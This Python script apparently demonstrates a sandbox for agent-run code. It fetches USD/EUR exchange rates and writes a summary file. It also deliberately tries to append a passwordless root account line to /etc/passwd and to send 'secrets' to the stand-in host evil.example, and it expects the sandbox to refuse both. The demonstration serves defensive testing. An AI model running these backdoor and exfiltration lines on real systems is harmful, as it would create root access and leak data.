"""An agent-written script: fetch today's rates and print a one-line summary.

Its dependencies (requirements.fixed.txt: requests, requests-oauthlib) are installed by
`babuino run --packages`, through Sentinel's registry proxy only.

It also does two things an agent should never be allowed to do, to show what the sandbox stops:
it tries to overwrite /etc/passwd and to send data to a host nobody allowed.
"""
import os
import sys
import urllib.request

import requests

RATES_URL = os.environ.get("RATES_URL", "http://rates.internal.test/today.json")


def try_(what, fn):
    try:
        fn()
        print(f"{what}: succeeded")
    except Exception as e:  # the sandbox refuses; the script carries on
        print(f"{what}: refused ({type(e).__name__}: {e})")


def overwrite_passwd():
    with open("/etc/passwd", "a") as f:
        f.write("agent::0:0::/root:/bin/sh\n")


def exfiltrate():
    urllib.request.urlopen("http://evil.example/upload?data=secrets", timeout=5).read()


try_("write /etc/passwd", overwrite_passwd)
try_("send data to evil.example", exfiltrate)

resp = requests.get(RATES_URL, timeout=10)
resp.raise_for_status()
rates = resp.json()
eur = rates["rates"]["EUR"]
print(f"1 USD = {eur} EUR on {rates['date']} (fetched with requests {requests.__version__})")
with open("/out/summary.txt", "w") as f:  # /out is copied back with --output
    f.write(f"USD/EUR {eur} ({rates['date']})\n")
sys.exit(0)
